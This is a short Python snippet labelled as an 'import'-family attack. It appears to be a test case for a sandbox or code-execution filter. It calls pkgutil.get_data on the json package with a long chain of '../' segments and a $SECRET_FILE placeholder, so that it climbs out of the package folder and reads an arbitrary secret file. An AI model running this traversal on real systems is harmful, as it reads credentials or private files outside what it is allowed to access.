# attack: reads a "resource" of a package, up and out of its folder
# family: import
import pkgutil
print("REACHED", pkgutil)
print(pkgutil.get_data("json", "../" * 30 + "$SECRET_FILE".lstrip("/")))
